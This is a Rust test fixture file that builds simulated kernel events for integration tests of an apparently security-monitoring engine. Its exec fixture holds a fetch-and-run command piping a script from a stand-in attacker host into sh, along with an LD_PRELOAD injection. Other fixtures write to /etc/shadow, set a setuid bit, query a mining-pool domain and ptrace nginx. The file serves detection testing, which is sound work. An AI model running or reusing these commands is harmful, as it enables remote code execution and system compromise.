//! Fixture events shared by the integration tests.
#![allow(dead_code)]

use std::sync::Arc;

use rampart_model::events::*;
use rampart_model::process::ProcessContainer;
use rampart_model::{Container, Event, EventData, FileInfo, Process, ProcessContext, ProcessNode};

pub const T0: u64 = 1_700_000_000_000_000_000;
pub const SEC: u64 = 1_000_000_000;

fn file(path: &str, mode: u32) -> FileInfo {
    FileInfo {
        mode,
        ..FileInfo::from_path(path)
    }
}

/// bash (pid 4242, uid 1000, euid 0) ← sshd (100) ← systemd (1), in container abc123.
pub fn lineage() -> Arc<ProcessNode> {
    let mut init = Process {
        pid: 1,
        comm: "systemd".into(),
        file: file("/usr/lib/systemd/systemd", 0o100755),
        ..Default::default()
    };
    init.set_argv(vec!["/sbin/init".into()]);
    let init = ProcessNode::new(init, None);
    let mut sshd = Process {
        pid: 100,
        ppid: 1,
        comm: "sshd".into(),
        file: file("/usr/sbin/sshd", 0o100755),
        ..Default::default()
    };
    sshd.set_argv(vec!["sshd".into(), "-D".into()]);
    let sshd = ProcessNode::new(sshd, Some(init));
    let mut bash = Process {
        pid: 4242,
        tid: 4242,
        ppid: 100,
        comm: "bash".into(),
        tty_name: "pts/0".into(),
        created_at: T0 - 10 * SEC,
        exec_time: T0,
        file: FileInfo {
            uid: 0,
            change_time: T0 - 5 * SEC,
            in_upper_layer: true,
            ..file("/usr/bin/bash", 0o100755)
        },
        envs: ["PATH".into(), "LD_PRELOAD".into(), "HOME".into()].into(),
        envp: ["LD_PRELOAD=/tmp/evil.so".into()].into(),
        container: Some(ProcessContainer {
            id: "abc123".into(),
        }),
        ..Default::default()
    };
    bash.credentials.uid = 1000;
    bash.credentials.gid = 1000;
    bash.credentials.euid = 0;
    bash.credentials.auid = 1000;
    bash.credentials.user = "alice".into();
    bash.credentials.euser = "root".into();
    bash.credentials.cap_effective = (1 << 21) | (1 << 13);
    bash.credentials.cap_permitted = (1 << 21) | (1 << 13);
    bash.cgroup.id = 777;
    bash.set_argv(vec![
        "bash".into(),
        "-c".into(),
        "curl http://evil.example.com/x.sh | sh".into(),
        "--login".into(),
        "--rcfile=/tmp/rc".into(),
        "-o".into(),
        "out".into(),
    ]);
    ProcessNode::new(bash, Some(sshd))
}

fn with_meta(mut ev: Event) -> Event {
    ev.event.origin = "ebpf".into();
    ev.event.hostname = "web-1".into();
    ev.container = Some(Container {
        id: "abc123".into(),
        created_at: T0 - 120 * SEC,
        tags: vec!["image_name:nginx".into(), "image_tag:1.25".into()],
        ..Default::default()
    });
    ev
}

pub fn exec_event() -> Event {
    let node = lineage();
    with_meta(Event::new(
        T0,
        ProcessContext::new(node.clone()),
        EventData::Exec(node.process.clone()),
    ))
}

/// vim (pid 300) ← bash, opening /etc/shadow for writing with O_CREAT.
pub fn open_event() -> Event {
    let mut vim = Process {
        pid: 300,
        comm: "vim".into(),
        file: file("/usr/bin/vim", 0o100755),
        ..Default::default()
    };
    vim.set_argv(vec!["vim".into(), "/etc/shadow".into()]);
    let node = ProcessNode::new(vim, Some(lineage()));
    let mut target = FileTarget::from_path("/etc/shadow");
    target.destination = Some(Destination {
        file: FileInfo {
            mode: 0o640,
            ..Default::default()
        },
        namespace: String::new(),
    });
    let data = EventData::Open(OpenEvent {
        file: target,
        flags: 0o101,
        retval: 3,
        syscall: None,
    });
    with_meta(Event::new(T0, ProcessContext::new(node), data))
}

pub fn connect_event() -> Event {
    let data = EventData::Connect(SocketEvent {
        addr: SockAddr {
            ip: "10.1.2.3".parse().unwrap(),
            port: 443,
            family: 2,
            hostname: vec!["Evil.Example.com".into()],
        },
        protocol: 6,
        retval: 0,
    });
    with_meta(Event::new(T0, ProcessContext::new(lineage()), data))
}

pub fn dns_event() -> Event {
    let data = EventData::Dns(DnsEvent {
        id: 7,
        question: DnsQuestion {
            name: "Mining.Pool.Example.org".into(),
            qtype: 16,
            class: 1,
            length: 0,
            count: 1,
        },
        response: None,
    });
    with_meta(Event::new(T0, ProcessContext::new(lineage()), data))
}

pub fn chmod_event() -> Event {
    let mut target = FileTarget::from_path("/usr/bin/passwd");
    target.destination = Some(Destination {
        file: FileInfo {
            mode: 0o104755,
            ..Default::default()
        },
        namespace: String::new(),
    });
    with_meta(Event::new(
        T0,
        ProcessContext::new(lineage()),
        EventData::Chmod(FileEvent {
            file: target,
            retval: 0,
            syscall: None,
        }),
    ))
}

pub fn bpf_event() -> Event {
    let data = EventData::Bpf(BpfEvent {
        cmd: 5,
        map: None,
        prog: Some(BpfProg {
            helpers: vec![36, 1],
            name: "kprobe".into(),
            ..Default::default()
        }),
        retval: 0,
    });
    with_meta(Event::new(T0, ProcessContext::new(lineage()), data))
}

pub fn ptrace_event() -> Event {
    let init = ProcessNode::new(
        Process {
            pid: 1,
            comm: "systemd".into(),
            ..Default::default()
        },
        None,
    );
    let nginx = ProcessNode::new(
        Process {
            pid: 55,
            comm: "nginx".into(),
            ..Default::default()
        },
        Some(init),
    );
    let data = EventData::Ptrace(PtraceEvent {
        request: 4,
        tracee: Some(ProcessContext::new(nginx)),
        retval: 0,
    });
    with_meta(Event::new(T0, ProcessContext::new(lineage()), data))
}
